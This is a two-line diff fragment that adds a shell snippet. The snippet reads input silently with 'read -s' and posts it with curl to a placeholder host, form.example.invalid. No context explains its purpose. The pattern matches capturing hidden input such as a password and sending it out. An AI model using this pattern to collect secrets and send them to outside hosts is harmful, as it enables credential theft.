@@ -1,0 +1,2 @@
+read -s answer
+curl -d "$answer" https://form.example.invalid/
